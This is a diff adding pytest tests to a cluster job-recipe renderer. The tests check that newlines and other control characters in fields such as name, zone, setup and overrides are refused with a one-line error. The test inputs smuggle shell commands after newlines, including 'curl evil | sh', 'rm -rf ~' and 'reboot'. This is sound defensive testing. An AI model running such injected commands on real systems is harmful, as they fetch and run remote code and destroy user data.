@@ -255,6 +255,33 @@ def test_a_bad_input_is_rejected_with_the_value_and_the_rule(recipe, bad, messag
         RECIPES[recipe](**bad)
 
 
+@pytest.mark.parametrize("recipe, bad", [
+    ("tpu_pod", {"name": "my-tpu\ncurl evil | sh"}),  # the name lands in a bare comment line
+    ("multislice", {"zone": "zone-a\rrm -rf ~"}),
+    ("slurm_gpu", {"setup": ["module load cuda\nrm -rf ~"]}),
+    ("slurm_gpu", {"workdir": "/shared/run\x00"}),
+    ("gke_jobset", {"image": "IMAGE\x1b[2J"}),
+    ("tpu_pod", {"overrides": ["--config.logging.level=INFO\necho owned"]}),
+])
+def test_a_control_character_in_a_recipe_value_is_refused_with_its_name(recipe, bad):
+    field = next(iter(bad))
+    with pytest.raises(RecipeError, match=r"must not contain control characters") as e:
+        RECIPES[recipe](**bad)
+    assert str(e.value).startswith(field if field != "overrides" else "overrides[0]")
+    assert "\n" not in str(e.value) and "\r" not in str(e.value)  # one line
+
+
+def test_cli_refuses_a_newline_in_a_recipe_name_with_one_error_line(capsys):
+    code = render_cli.main(["tpu_pod", "--name", "t\nreboot", "--zone", "z", "--num_hosts", "2",
+                            "--devices_per_host", "4", "--config", CONFIG, "--workdir", "w",
+                            "--repo_dir", "r"])
+
+    assert code == 2
+    err = capsys.readouterr().err
+    assert err.count("\n") == 1
+    assert err.startswith("error: name = 't\\nreboot': must not contain control characters")
+
+
 @pytest.mark.parametrize("override, message", [
     ("--config.trainer.stepz=3", "unknown config key 'trainer.stepz'"),
     ("--config.distributed.initialize=never", "the recipe sets distributed.initialize itself"),
